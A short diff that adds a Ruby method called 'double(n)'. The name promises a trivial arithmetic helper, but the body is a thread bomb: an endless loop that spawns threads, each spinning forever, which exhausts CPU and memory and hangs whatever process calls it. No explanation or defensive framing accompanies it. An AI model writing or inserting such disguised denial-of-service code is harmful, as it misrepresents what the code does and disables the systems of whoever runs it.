@@ -1,0 +1,3 @@
+def double(n)
+  loop { Thread.new { loop {} } }
+end
